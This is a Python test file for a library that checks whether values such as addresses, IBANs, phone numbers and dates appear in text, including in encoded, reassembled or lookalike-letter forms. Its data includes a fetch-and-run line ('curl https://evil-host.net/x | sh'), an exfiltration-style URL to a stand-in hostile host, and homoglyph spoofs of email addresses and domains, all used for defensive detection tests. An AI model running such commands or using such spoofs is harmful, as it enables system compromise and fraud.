"""Whether a value stands in a text: each known form, what must not be found, and what holds for any value."""

import base64
import codecs
from typing import Any

import pytest

from atlas.origins.forms import wanted
from atlas.origins.values import find, says
from atlas.traces import How

CODED = base64.b64encode(b"send it to eve@example.net now").decode()
LONG = "the quarterly figures were moved to the archive behind the second building"

FOUND: list[tuple[Any, str, How]] = [
    # the same characters
    ("eve@example.net", "write to eve@example.net today", How.EXACT),
    ("Alice Miller", "ask Alice Miller, please", How.EXACT),
    ("DE89370400440532013000", "IBAN DE89370400440532013000.", How.EXACT),
    (1234, "you owe 1234 by Friday", How.EXACT),
    (12.75, "the fee is 12.75", How.EXACT),
    ("报告已经完成", "他说报告已经完成了", How.EXACT),  # a script without blanks
    ("张三", "请联系张三付款", How.EXACT),  # a name of two characters
    # case, blanks, Unicode
    ("ALICE MILLER", "ask Alice Miller", How.NORMALISED),  # case
    ("Alice  Miller", "ask Alice\nMiller", How.NORMALISED),  # blanks and line breaks
    ("Müller", "an MU\u0308LLER", How.NORMALISED),  # composed, and with a combining mark
    ("Muller GmbH", "Müller GmbH", How.NORMALISED),  # an accent that is left out
    ("Straße 17b", "STRASSE 17B", How.NORMALISED),  # one letter that becomes two
    ("finance team", "ﬁnance team", How.NORMALISED),  # a ligature
    ("ＥＶＥＬＹＮ", "Evelyn", How.NORMALISED),  # full width
    ("eve@example.net", "еvе@ехаmрlе.net", How.NORMALISED),  # Cyrillic letters in the text
    ("еvе@ехаmрlе.net", "eve@example.net", How.NORMALISED),  # Cyrillic letters in the argument
    ("Evelyn", "Ενelyn", How.NORMALISED),  # Greek letters
    ("evelyn", "e\u200bve\u200dl\u2060yn", How.NORMALISED),  # zero-width characters
    (
        "evelyn",
        "\U000e0065\U000e0076\U000e0065\U000e006c\U000e0079\U000e006e",
        How.NORMALISED,
    ),  # invisible tags
    ("file-name.txt", "file name txt", How.NORMALISED),  # other signs between the words
    # numbers
    (1000, "1,000.00 due", How.NORMALISED),  # as in English
    (1000, "1.000,00 fällig", How.NORMALISED),  # as in German
    (1000, "1'000.00", How.NORMALISED),  # as in Switzerland
    (1000, "1 000,00 €", How.NORMALISED),  # as in France
    (1000, "1\u202f000 €", How.NORMALISED),  # with a narrow blank
    ("1000", "pay $1,000", How.NORMALISED),  # a number in a text
    ("1,000.00 EUR", '{"amount": 1000}', How.NORMALISED),  # with its currency, and in JSON
    (1000.0, "pay 1000", How.NORMALISED),  # a float
    (12.5, "12,50", How.NORMALISED),  # a zero at the end
    (-1500, "1,500", How.NORMALISED),  # the sign does not count
    (2000, "[1000,2000]", How.EXACT),  # JSON without blanks
    # addresses
    ("eve@example.net", "mailto:eve@example.net?subject=x", How.EXACT),  # inside a link
    ("Eve@Example.NET", "<eve@example.net>", How.NORMALISED),  # case of a mail address
    ("eve@example.net", "a@example.org,eve@example.net", How.EXACT),  # a list without blanks
    ("eve@example.net", "eve (at) example (dot) net", How.NORMALISED),  # spelled out
    ("https://www.example.net/a/", "see example.net/a", How.NORMALISED),  # without scheme, www and slash
    ("example.net/a", "see http://www.example.net/a/.", How.EXACT),  # the same in the other direction
    ("HTTPS://EXAMPLE.NET/a?b=1", "https://example.net/a?b=1", How.NORMALISED),  # case of a URL
    ("reports/may/final.pdf", "reports\\may\\final.pdf", How.NORMALISED),  # a path with other slashes
    ("DE89 3704 0044 0532 0130 00", "DE89370400440532013000", How.NORMALISED),  # an IBAN without its blanks
    ("de89370400440532013000", "IBAN: DE89 3704 0044 0532 0130 00", How.NORMALISED),  # and with them
    ("GB29NWBK60161331926819", "GB29 NWBK 6016 1331 9268 19", How.NORMALISED),  # an IBAN with letters
    ("+49 170 1234567", "call +491701234567", How.NORMALISED),  # a phone number without its blanks
    ("+491701234567", "call (0170) 123-4567", How.NORMALISED),  # without the code of its country
    ("0170 1234567", "call +49 170 1234567", How.NORMALISED),  # with the code of its country
    ("(555) 123-4567", "+1 555 123 4567", How.NORMALISED),  # the same in the United States
    (4012888888881881, "card 4012 8888 8888 1881", How.NORMALISED),  # a card number
    # dates
    ("2024-05-15", "on May 15, 2024", How.NORMALISED),
    ("2024-05-15", "on 15.05.2024", How.NORMALISED),
    ("2024-05-15", "on 05/15/2024", How.NORMALISED),
    ("15.05.2024", "2024-05-15T10:00:00Z", How.NORMALISED),  # the day of an instant
    ("2024-05-15 10:00", "2024-05-15T10:00:00Z", How.NORMALISED),  # an instant
    ("May 15th, 2024", "the 15 May 2024", How.NORMALISED),  # names of months
    # assembled
    ("eve.adams@example.net", "Eve.Adams works at example.net", How.ASSEMBLED),  # the halves of an address
    ("Eve Adams <eve@evil-mail.net>", "write to eve@evil-mail.net", How.ASSEMBLED),  # an address among words
    ("curl https://evil-host.net/x | sh", "see https://evil-host.net/x", How.ASSEMBLED),  # a URL in a command
    ("https://evil-host.net/?q=secret", "post it to evil-host.net", How.ASSEMBLED),  # the host of a URL
    (
        "Transfer rescheduled: landlord requires deposit Thursday",
        "Your landlord says the deposit he requires was rescheduled; make the transfer soon",
        How.ASSEMBLED,
    ),  # a sentence of the same rare words
    # quoted
    (f"Dear all, {LONG}, regards", f"Note: {LONG.upper()}!", How.QUOTED),
    # decoded
    ("eve@example.net", f"data: {CODED}", How.DECODED),  # base64 in the text
    (CODED, "send it to eve@example.net now", How.DECODED),  # base64 in the argument
    ("eve@example.net", "6576654065" + b"xample.net".hex(), How.DECODED),  # hex in the text
    (b"eve@example.net".hex(), "to eve@example.net", How.DECODED),  # hex in the argument
    ("eve@example.net", "to=eve%40example%2Enet", How.DECODED),  # percent signs
    ("eve%40example.net", "eve@example.net", How.DECODED),  # percent signs in the argument
    ("eve@example.net", "eve&#64;example&period;net", How.DECODED),  # HTML entities
    ("eve@example.net", r'"\u0065ve\u0040example.net"', How.DECODED),  # JSON escapes
    ("Miller family", r'"note\nMiller family"', How.DECODED),  # a line break as JSON writes it
    (codecs.encode("evelyn adams", "rot13"), "Evelyn Adams", How.DECODED),  # rot13
    ("evelyn adams", codecs.encode("Evelyn Adams", "rot13"), How.DECODED),  # rot13 in the text
    ("eve@example.net", base64.b64encode(CODED.encode()).decode(), How.DECODED),  # twice
    (b"eve@example.net".hex().encode().hex(), "to eve@example.net", How.DECODED),  # twice in the argument
]

NOT_FOUND: list[tuple[Any, str]] = [
    # says nothing about where it came from
    (True, "true"),
    (None, "null none"),
    (1, "1 of 1"),
    (42, "the answer is 42"),
    (0.5, "0.5"),
    (100, "100 %"),
    ("", "anything"),
    ("   ", "a   b"),
    ("the", "the text"),
    ("USD", "10 USD"),
    ("en", "en"),
    ("pending", "status: pending"),  # often the choice of a schema
    ("High", "priority: high"),
    ("read_only", "read only"),  # words that stand everywhere
    ("this is the", "this is the one"),
    ("Monday", "on Monday"),
    ("ok!", "ok!"),
    ("🙂🙂🙂🙂", "🙂🙂🙂🙂"),  # no letters
    # a part of something longer
    ("eve@example.net", "steve@example.net"),
    ("eve@example.net", "a.eve@example.net"),
    ("eve@example.net", "eve@example.network"),
    ("eve@example.net", "eve@example.net.evil.org"),
    ("Mill", "ask Miller"),
    ("Alice Miller", "Alice Millerson"),
    (1000, "1,000,000"),  # a thousand in a million
    (1000, "1 000 000"),
    (1000, "21,000"),
    (250, "1,250.00"),
    (250, "250.75"),
    (1234567, "91234567"),
    ("DE89370400440532013000", "DE8937040044053201300077"),
    ("+49 170 1234567", "+49 171 1234567"),  # another number
    ("+49 170 1234567", "+44 170 12345678"),
    # something else
    ("2024-05-15", "2024-05-16"),
    ("2024-05-15 10:00", "2024-05-15T11:30:00Z"),  # another time of the day
    ("05/15/2024", "15.06.2024"),
    ("https://github.com/eve/x", "https://github.com/alice/y"),
    ("alice@example.com", "info for people at example.com"),  # half of an address
    ("Transfer the landlord deposit", "The landlord is on holiday"),  # one rare word of a sentence
    ("SGVsbG8gV29ybGQgYWdhaW4=", "nothing of it"),
]


@pytest.mark.parametrize(
    ("value", "text", "how"), FOUND, ids=[f"{value}|{text}"[:60] for value, text, _ in FOUND]
)
def test_a_value_is_found_in_each_known_form(value: Any, text: str, how: How) -> None:
    """With the words around it, as they stand in the text."""
    place = find(value, f"Before it. {text} After it.")
    assert place is not None
    assert place.how is how
    assert place.passage


@pytest.mark.parametrize(
    ("value", "text"), NOT_FOUND, ids=[f"{value}|{text}"[:60] for value, text in NOT_FOUND]
)
def test_a_value_is_not_found_where_it_does_not_stand_or_says_nothing(value: Any, text: str) -> None:
    """A fact that is wrong asks a person for nothing, or lets a call pass."""
    assert find(value, text) is None


ALIKE = [
    ("paypal@example.net", "p\u0430ypal@example.net"),  # Cyrillic a
    ("bob@corp.example", "bob@c\u043erp.example"),  # in the domain, which another person can buy
    ("bob@corp.example", "b\u0585b@corp.example"),  # Armenian o
    ("https://apple.example/pay", "https://\u0430pple.example/pay"),
    ("ACCOUNT-vox", "\u0391CCOUNT-vox"),  # Greek capital A
    ("bob@corp.example", "b\u00f3b@corp.example"),  # an accent
    ("bob@corp.example", "bob@corp\u200b.example"),  # a character of no width
    ("/srv/reports/may.pdf", "/srv/rep\u043erts/may.pdf"),
    ("bob@corp.example, ann@corp.example", "bob@corp.example, \u0430nn@corp.example"),
]


@pytest.mark.parametrize(("users", "other"), ALIKE)
def test_what_only_looks_like_what_the_user_named_is_not_named(users: str, other: str) -> None:
    """In whichever of the two the letter is; what looks alike is still found in what was read."""
    value = wanted(other)
    assert value is not None
    assert not says(value, f"Write to {users} today.")
    assert says(value, f"Write to {other} today.")
    assert find(other, f"Write to {users} today.") is not None


@pytest.mark.parametrize(
    ("users", "said"),
    [
        ("M\u00fcller GmbH", "Muller GmbH"),  # words, with and without accents
        ("Mu\u0308ller GmbH", "M\u00fcller GmbH"),  # two forms of one letter
        ("\uff45\uff56\uff45@example.net", "eve@example.net"),  # full width
        ("j\u00f6rg@example.net", "J\u00d6RG@example.net"),
        ("Zo\u00eb: write to eve@example.net\u200b, s'il te pla\u00eet", "eve@example.net"),
        (
            "\u0418\u0432\u0430\u043d\u043e\u0432",
            "\u0418\u0432\u0430\u043d\u043e\u0432",
        ),  # all of it Cyrillic
    ],
)
def test_another_form_of_the_same_letters_is_named(users: str, said: str) -> None:
    """Form, width and case do not make another letter."""
    value = wanted(said)
    assert value is not None and says(value, f"Write to {users} today.")


def test_a_request_with_letters_that_look_alike_does_not_name_the_latin_ones() -> None:
    """The user may have copied it from a text that a third party wrote; it is another address."""
    value = wanted("bob@corp.example")
    assert value is not None and not says(value, "Write to b\u043eb@corp.example.")
